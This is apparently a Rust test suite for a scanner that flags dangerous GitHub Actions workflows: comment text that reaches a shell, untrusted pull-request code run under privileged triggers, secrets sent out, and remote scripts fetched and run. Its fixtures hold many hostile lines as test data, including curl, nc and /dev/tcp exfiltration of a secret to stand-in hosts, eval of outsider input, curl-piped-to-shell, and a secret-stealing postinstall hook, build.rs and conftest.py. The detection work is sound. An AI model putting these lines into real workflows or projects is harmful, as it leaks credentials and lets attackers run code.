//! Variants of the shapes behind known incidents, in other words than the incidents had: whichever
//! way it is written, the same rule speaks on the line that does it.

use crate::rules_flows::shown::{CI, Files, may, public, steps, verdicts};

const RUNS: &str = "privileged-trigger-runs-untrusted-code";
const TEXT: &str = "untrusted-text-executed";
const LEAVES: &str = "secret-leaves";
const REMOTE: &str = "remote-script-beside-secrets";
const PULLS: &str = "name: CI\non: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n";

/// Each verdict of one rule as `file:line`.
fn at(rule: &str, files: Files<'_>) -> Vec<String> {
    let of = |path: &str| path.rsplit('/').next().unwrap().to_owned();
    verdicts(&public(), &[], files)
        .iter()
        .filter(|verdict| verdict.rule == rule)
        .map(|verdict| format!("{}:{}", of(verdict.spot.path.raw()), verdict.spot.line))
        .collect()
}

/// Steps with a token that writes, whose verdict of a rule stands on a line; none for no line.
#[track_caller]
fn check(rule: &str, rows: &[(&str, &str, &str, Option<usize>)]) {
    for (what, on, body, line) in rows {
        let workflow = may(&steps(on, body), "contents: write");
        let files = [(CI, workflow.as_str()), (".github/workflows/pulls.yml", PULLS)];
        let expected: Vec<String> = line.iter().map(|line| format!("ci.yml:{line}")).collect();
        assert_eq!(at(rule, &files), expected, "{what}:\n{workflow}");
    }
}

/// A script with a secret in the variable `KEY`, whose verdict of a rule stands on a line of the
/// script, counted from 1.
#[track_caller]
fn scripts(rule: &str, rows: &[(&str, &str, Option<usize>)]) {
    for (what, script, line) in rows {
        let script = script.replace('\n', "\n    ");
        let body =
            format!("- run: |\n    {script}\n  env: {{KEY: '${{{{ secrets.DEPLOY_KEY }}}}'}}");
        let workflow = steps("push", &body);
        let expected: Vec<String> =
            line.iter().map(|line| format!("ci.yml:{}", line + 7)).collect();
        assert_eq!(at(rule, &[(CI, &workflow)]), expected, "{what}:\n{workflow}");
    }
}

#[test]
fn texts_of_outsiders_that_reach_a_script_through_a_variable() {
    let body = "  env: {BODY: '${{ github.event.comment.body }}'}";
    let run = |script: &str| format!("- run: |\n    {}\n{body}", script.replace('\n', "\n    "));
    let program = |script: &str| {
        let script = script.replace('\n', "\n      ");
        format!("- uses: actions/github-script@v7\n  with:\n    script: |\n      {script}\n{body}")
    };
    for (what, step, line) in [
        ("eval", run("eval \"$BODY\""), Some(8)),
        ("a shell of its own", run("bash -c \"run $BODY\""), Some(8)),
        ("into a shell", run("echo \"$BODY\" | bash"), Some(8)),
        ("a here-string", run("bash <<< \"$BODY\""), Some(8)),
        ("as the command", run("set -e\n$BODY --now"), Some(9)),
        ("through a copy", run("CMD=\"$BODY\"\neval $CMD"), Some(9)),
        ("another language", run("python3 -c \"print('$BODY')\""), Some(8)),
        ("a variable of later steps", run("echo \"NOTE=$BODY\" >> $GITHUB_ENV"), Some(8)),
        ("a program", program("require('child_process').execSync(process.env.BODY)"), Some(10)),
        ("a template", program("const out = eval(`x = ${process.env.BODY}`)"), Some(10)),
        ("printed", run("echo \"$BODY\""), None),
        ("expanded by the inner shell", run("bash -c 'echo \"$BODY\"'"), None),
        ("read as data", run("echo \"$BODY\" | python3 count.py"), None),
        ("what is left of it", run("N=$(echo \"$BODY\" | tr -dc 0-9)\neval \"f $N\""), None),
        ("an argument", program("await exec.exec('git', ['tag', process.env.BODY])"), None),
    ] {
        check(TEXT, &[(what, "issue_comment", &step, line)]);
    }
    let title = run("echo \"NOTE=$BODY\" >> $GITHUB_ENV").replace("comment.body", "issue.title");
    check(TEXT, &[("a title has one line", "issue_comment", &title, None)]);
}

#[test]
fn texts_of_outsiders_by_other_ways_in() {
    let follows = "{workflow_run: {workflows: [CI], types: [completed]}}";
    check(
        TEXT,
        &[
            (
                "a branch in a program",
                "pull_request_target",
                "- uses: actions/github-script@v7\n  with:\n    script: |\n      core.info(`on ${{ github.head_ref }}`)",
                Some(10),
            ),
            (
                "a variable of Actions",
                "issues",
                "- run: echo '${{ env.T }}'\n  env: {T: '${{ github.event.issue.title }}'}",
                Some(8),
            ),
            (
                "a discussion",
                "{discussion: {types: [created]}}",
                "- run: node -e 'console.log(\"${{ github.event.discussion.title }}\")'",
                Some(7),
            ),
            (
                "a branch of the run before",
                follows,
                "- run: echo ${{ github.event.workflow_run.head_branch }}",
                Some(7),
            ),
            (
                "only compared",
                "issue_comment",
                "- run: echo ${{ contains(github.event.comment.body, '/go') }}",
                None,
            ),
        ],
    );
    let action = "inputs: {text: {required: true}}\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.text }}\n      shell: bash\n";
    let uses = steps(
        "issue_comment",
        "- uses: ./.github/actions/say\n  with: {text: '${{ github.event.comment.body }}'}",
    );
    let files = [(CI, uses.as_str()), (".github/actions/say/action.yml", action)];
    assert_eq!(at(TEXT, &files), ["action.yml:5"]);
    let called = "on: {workflow_call: {inputs: {title: {type: string}}}}\npermissions: {}\njobs:\n  say:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ inputs.title }}'\n";
    let calls = "on: pull_request_target\npermissions: {}\njobs:\n  build:\n    uses: ./.github/workflows/say.yml\n    with: {title: '${{ github.event.pull_request.title }}'}\n";
    let files = [(CI, calls), (".github/workflows/say.yml", called)];
    assert_eq!(at(TEXT, &files), ["say.yml:7"]);
}

#[test]
fn code_of_outsiders_by_other_ways_in() {
    let pr = "pull_request_target";
    let follows = "{workflow_run: {workflows: [CI], types: [completed]}}";
    let looked_up = |script: &str| {
        format!(
            "- id: pr\n  uses: actions/github-script@v7\n  with:\n    script: |\n      {script}\n- uses: actions/checkout@v4\n  with: {{ref: '${{{{ steps.pr.outputs.sha }}}}'}}\n- run: make"
        )
    };
    check(
        RUNS,
        &[
            (
                "a pull request by number",
                "issue_comment",
                "- uses: actions/checkout@v4\n- run: |\n    gh pr checkout ${{ github.event.issue.number }}\n    make test",
                Some(8),
            ),
            (
                "a ref in a variable",
                "issue_comment",
                "- run: |\n    git fetch origin \"$REF\"\n    git checkout FETCH_HEAD\n    make\n  env: {REF: 'refs/pull/${{ github.event.issue.number }}/merge'}",
                Some(7),
            ),
            (
                "a commit that a step looks up",
                "issue_comment",
                &looked_up("core.setOutput('sha', (await get()).data.head.sha)"),
                Some(14),
            ),
            (
                "another commit that a step looks up",
                "issue_comment",
                &looked_up("core.setOutput('sha', (await get()).data.base.sha)"),
                None,
            ),
            (
                "an artifact as variables of later steps",
                follows,
                "- uses: actions/download-artifact@v4\n  with: {run-id: '${{ github.event.workflow_run.id }}'}\n- run: cat pr.env >> $GITHUB_ENV",
                Some(9),
            ),
            (
                "an artifact through an output",
                follows,
                "- run: gh run download ${{ github.event.workflow_run.id }}\n- id: n\n  run: echo \"n=$(cat pr/n)\" >> $GITHUB_OUTPUT\n- run: echo ${{ steps.n.outputs.n }}",
                Some(10),
            ),
            (
                "one of several events",
                "[pull_request_target, push]",
                "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha || github.sha }}'}\n- run: tox",
                Some(9),
            ),
            (
                "the merge",
                pr,
                "- uses: actions/checkout@v4\n  with: {ref: 'refs/pull/${{ github.event.number }}/merge'}\n- run: cargo test",
                Some(9),
            ),
            ("its own branch", pr, "- uses: actions/checkout@v4\n- run: make", None),
            (
                "a branch made of theirs",
                pr,
                "- run: |\n    git checkout -b work \"origin/$REF\"\n    make\n  env: {REF: '${{ github.head_ref }}'}",
                Some(7),
            ),
            (
                "a branch that is named like theirs",
                pr,
                "- run: |\n    git switch -c \"fix/$REF\"\n    make\n    git push origin \"fix/$REF\"\n  env: {REF: '${{ github.head_ref }}'}",
                None,
            ),
            (
                "a push onto theirs",
                pr,
                "- run: |\n    make\n    git push origin HEAD:${{ github.head_ref }}",
                None,
            ),
        ],
    );
}

#[test]
fn secrets_that_leave_by_other_ways_out() {
    scripts(
        LEAVES,
        &[
            (
                "a program in quotes",
                "python3 -c \"import os,urllib.request as u; u.urlopen('https://c.invalid/?'+os.environ['KEY'])\"",
                Some(1),
            ),
            (
                "a program in quotes over lines",
                "node -e '\nconst key = process.env.KEY;\nfetch(\"https://c.invalid\", {method: \"POST\", body: key});\n'",
                Some(3),
            ),
            (
                "a program in a here-document",
                "python3 - <<'PY'\nimport os, requests\nt = os.environ['KEY']\nrequests.post('https://c.invalid', data=t)\nPY\necho done",
                Some(4),
            ),
            ("a file", "echo $KEY > k.txt\ncurl -F f=@k.txt https://c.invalid", Some(2)),
            ("everything in a file", "env > e\ncurl --data-binary @e https://c.invalid", Some(2)),
            ("a file into a pipe", "echo $KEY > /tmp/k\ncat /tmp/k | nc c.invalid 80", Some(2)),
            ("a bucket", "echo $KEY > k\naws s3 cp k s3://drop/k", Some(2)),
            ("bash itself", "echo $KEY > /dev/tcp/192.0.2.1/443", Some(1)),
            ("a comment", "gh issue comment 1 --body \"$KEY\"", Some(1)),
            ("a gist", "echo \"$KEY\" | gh gist create -", Some(1)),
            ("an interface", "gh api repos/o/r/issues -f title=x -f body=\"$KEY\"", Some(1)),
            ("another store", "gh secret set K --repo acme/other --body \"$KEY\"", Some(1)),
            ("encoded first", "X=$(echo -n \"$KEY\" | base64 -w0)\necho \"$X\"", Some(2)),
            ("in pieces", "echo \"${KEY:0:5} ${KEY:5}\"", Some(1)),
            ("names and pieces", "for k in $KEY; do curl https://c.invalid/$k; done", Some(1)),
        ],
    );
}

#[test]
fn a_secret_in_the_template_of_a_program_leaves() {
    let script = "await fetch(`https://c.invalid/?k=${process.env.KEY}`)";
    let body = format!(
        "- uses: actions/github-script@v7\n  with:\n    script: |\n      {script}\n  env: {{KEY: '${{{{ secrets.DEPLOY_KEY }}}}'}}"
    );
    assert_eq!(at(LEAVES, &[(CI, &steps("push", &body))]), ["ci.yml:10"]);
}

#[test]
fn secrets_that_are_only_used() {
    scripts(
        LEAVES,
        &[
            ("a login", "echo \"$KEY\" | docker login -u x --password-stdin", None),
            ("another login", "echo \"$KEY\" | gh auth login --with-token", None),
            ("a login of one command", "GH_TOKEN=$KEY gh issue comment 1 --body done", None),
            ("a login in a header", "gh api -H \"Authorization: token $KEY\" /user -f a=b", None),
            ("a place", "gh api \"repos/$KEY/dispatches\" -f event_type=x", None),
            ("a publisher", "TWINE_PASSWORD=$KEY twine upload dist/*", None),
            (
                "settings",
                "echo \"//npm.acme.invalid/:_authToken=$KEY\" > .npmrc\nnpm publish",
                None,
            ),
            ("a key in a file", "echo \"$KEY\" > k\nscp -i k site a@c.invalid:", None),
            ("a certificate", "echo \"$KEY\" > k\ncurl --cert k https://c.invalid", None),
            ("another file", "echo $KEY > k\ncurl -F f=@report https://c.invalid", None),
            ("decoded", "echo $KEY | base64 --decode | gpg --import", None),
            ("masked", "X=$(echo $KEY | base64)\necho \"::add-mask::$X\"", None),
            ("its beginning", "echo \"${KEY:0:4}\"", None),
            (
                "a program that calls nobody",
                "python3 -c \"import os; print(len(os.environ['KEY']))\"",
                None,
            ),
        ],
    );
}

#[test]
fn a_secret_at_its_own_service_is_used_and_at_a_look_alike_it_leaves() {
    for (host, leaves) in [
        ("api.telegram.org", false),
        ("telegram.invalid", true),
        ("api.telegram.org.invalid", true),
        ("telegram-org.invalid", true),
    ] {
        let body = format!(
            "- run: curl -u __token__:$T https://{host}/legacy\n  env: {{T: '${{{{ secrets.TELEGRAM_BOT_TOKEN }}}}'}}"
        );
        let workflow = steps("push", &body);
        assert_eq!(!at(LEAVES, &[(CI, &workflow)]).is_empty(), leaves, "{host}");
    }
}

#[test]
fn secrets_that_leave_from_files_of_the_repository() {
    let env = "  env: {KEY: '${{ secrets.DEPLOY_KEY }}'}";
    for (what, run, path, text, line) in [
        ("make", "make release", "Makefile", "release:\n\t@curl -d k=$$KEY https://c.invalid\n", 2),
        ("make again", "make", "Makefile", "all:\n\tcurl -d k=$(KEY) https://c.invalid\n", 2),
        (
            "tests",
            "pytest",
            "conftest.py",
            "import os, requests\nrequests.post('https://c.invalid', data=dict(os.environ))\n",
            2,
        ),
        (
            "an install script",
            "npm ci",
            "package.json",
            "{\n \"scripts\": {\n  \"postinstall\": \"curl -d $KEY https://c.invalid\"\n }\n}\n",
            3,
        ),
        (
            "a build script",
            "cargo build",
            "build.rs",
            "fn main() {\n    let key = std::env::var(\"KEY\").unwrap();\n    std::process::Command::new(\"curl\").arg(key).arg(\"https://c.invalid\").status().unwrap();\n}\n",
            3,
        ),
    ] {
        let workflow = steps("push", &format!("- run: {run}\n{env}"));
        let name = path.rsplit('/').next().unwrap();
        let expected = [format!("{name}:{line}")];
        assert_eq!(at(LEAVES, &[(CI, &workflow), (path, text)]), expected, "{what}");
    }
}

#[test]
fn scripts_from_the_network_by_other_ways() {
    scripts(
        REMOTE,
        &[
            ("a program", "python3 <(curl -s https://x.invalid/i.py)", Some(1)),
            ("fetched and run by one tool", "deno run -A https://x.invalid/i.ts", Some(1)),
            ("sourced", "source <(curl -s https://x.invalid)", Some(1)),
            ("evaluated", "eval \"$(curl -s https://x.invalid)\"", Some(1)),
            ("redirected", "bash < <(curl -s https://x.invalid)", Some(1)),
            ("a page", "curl -s https://x.invalid/status", None),
            ("a fetch that is put together", "R=$(eval curl -s $H https://x.invalid/r)", None),
            (
                "another address",
                "curl -s https://x.invalid/${{ github.repository }} | jq .\nL=https://y.invalid/${{ github.repository }}",
                None,
            ),
        ],
    );
}

#[test]
fn what_runs_while_an_image_is_built_has_none_of_the_secrets() {
    let image = ("Dockerfile", "FROM debian\nRUN curl -s https://x.invalid | sh\n");
    for command in ["docker build .", "docker buildx imagetools create -t a b"] {
        let body = format!("- run: {command}\n  env: {{KEY: '${{{{ secrets.DEPLOY_KEY }}}}'}}");
        let workflow = steps("push", &body);
        assert!(at(REMOTE, &[(CI, &workflow), image]).is_empty(), "{command}");
    }
}

#[test]
fn what_a_tool_takes_its_orders_from_is_asked_for() {
    let workflow = may(&steps("push", "- run: make && pytest"), "contents: write");
    let powers = beholden::power::of(&[(CI, workflow.as_str())].into_iter().collect(), &public());
    let wanted: Vec<_> = powers.wanted().map(|file| file.raw()).collect();
    for file in ["Makefile", "conftest.py"] {
        assert!(wanted.contains(&file), "{wanted:?}");
    }
    assert!(powers.unknowns().is_empty(), "they need not be there: {:?}", powers.unknowns());
}
